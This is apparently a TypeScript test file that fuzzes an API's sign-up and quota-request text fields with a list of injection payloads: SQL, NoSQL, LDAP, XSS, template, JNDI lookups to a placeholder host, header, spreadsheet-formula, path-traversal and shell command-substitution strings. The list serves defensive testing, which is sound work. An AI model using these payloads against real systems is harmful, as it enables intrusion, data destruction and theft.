import { changed, type Path, pointerOf } from "../support/paths.ts";
import { ANY, type BadCase, type Call } from "./bad-case.ts";
import { FULL_ORGANIZATION, FULL_QUOTA, SIGN_UP_OF_PERSON } from "./good-requests.ts";

const DOLLAR = "$";

/** Texts that do something where they are not taken as texts; each has the word by which the answer is searched for it. */
export const PAYLOADS: readonly string[] = [
  "zqinj' OR '1'='1",
  "zqinj'; DROP TABLE checks; --",
  'zqinj" OR ""="',
  "zqinj') UNION SELECT NULL--",
  "zqinj' AND SLEEP(5)--",
  '{"$gt":"zqinj"}',
  '{"$where":"zqinj"}',
  "zqinj' || 'a'=='a",
  "*)(uid=zqinj))(|(uid=*",
  "zqinj*)(&",
  "attribute_exists(zqinj)",
  ":zqinj OR pk = :pk",
  "<script>zqinj</script>",
  "<img src=x onerror=zqinj>",
  "<svg/onload=zqinj>",
  "javascript:zqinj",
  '"><script>zqinj</script>',
  "';zqinj//",
  "<iframe srcdoc=zqinj>",
  "&lt;zqinj&gt;",
  "<a href='data:text/html,zqinj'>",
  "{{zqinj*7}}",
  `${DOLLAR}{zqinj}`,
  "#{zqinj}",
  "<%= zqinj %>",
  "{% zqinj %}",
  `${DOLLAR}{jndi:ldap://zqinj.example/a}`,
  `${DOLLAR}{${DOLLAR}{lower:j}ndi:zqinj}`,
  "zqinj\r\nSet-Cookie: a=b",
  "zqinj\nX-Header: 1",
  "zqinj%0d%0aLocation:%20x",
  "=zqinj()",
  "+zqinj",
  "-zqinj+1",
  "@zqinj",
  "\t=zqinj",
  "＝zqinj",
  "=cmd|'/c zqinj'!A1",
  "../../../zqinj",
  "..\\..\\zqinj",
  "/etc/zqinj",
  "%2e%2e%2fzqinj",
  "file:///zqinj",
  "; zqinj",
  "| zqinj",
  "$(zqinj)",
  "`zqinj`",
  "&& zqinj",
  "zqinj > /dev/null",
  "<!DOCTYPE a [<!ENTITY b SYSTEM 'zqinj'>]>",
  "]]>zqinj",
  "<?xml zqinj?>",
  "\u202ezqinj\u202c",
  "zqinj\u200b\u200b",
  "eval(zqinj)",
  "__zqinj__",
  "%zqinj%n%s",
  "zqinj".repeat(20),
];

/** Where a request takes a text as it comes. */
const TEXTS: readonly (readonly [Call, object, Path])[] = [
  ["sign-up", SIGN_UP_OF_PERSON, ["customer", "name"]],
  ["sign-up", SIGN_UP_OF_PERSON, ["customer", "purpose"]],
  ["sign-up", SIGN_UP_OF_PERSON, ["customer", "address", "lines", 0]],
  ["sign-up", SIGN_UP_OF_PERSON, ["evidence", 0, "reference"]],
  ["sign-up", FULL_ORGANIZATION, ["customer", "registration", "number"]],
  ["sign-up", FULL_ORGANIZATION, ["customer", "payment", "payer", "name"]],
  ["quota-request", FULL_QUOTA, ["endUse", "description"]],
  ["quota-request", FULL_QUOTA, ["accelerators", 0, "region"]],
];

/** Texts that must be nothing but texts wherever they go, valid or not. */
export const INJECTIONS: readonly BadCase[] = TEXTS.flatMap(([call, body, path]) =>
  PAYLOADS.map((payload) => ({
    name: `${JSON.stringify(payload).slice(0, 50)} at ${pointerOf(path)}`,
    call,
    event: { body: changed({ ...body }, path, payload) },
    statuses: ANY,
  })),
);
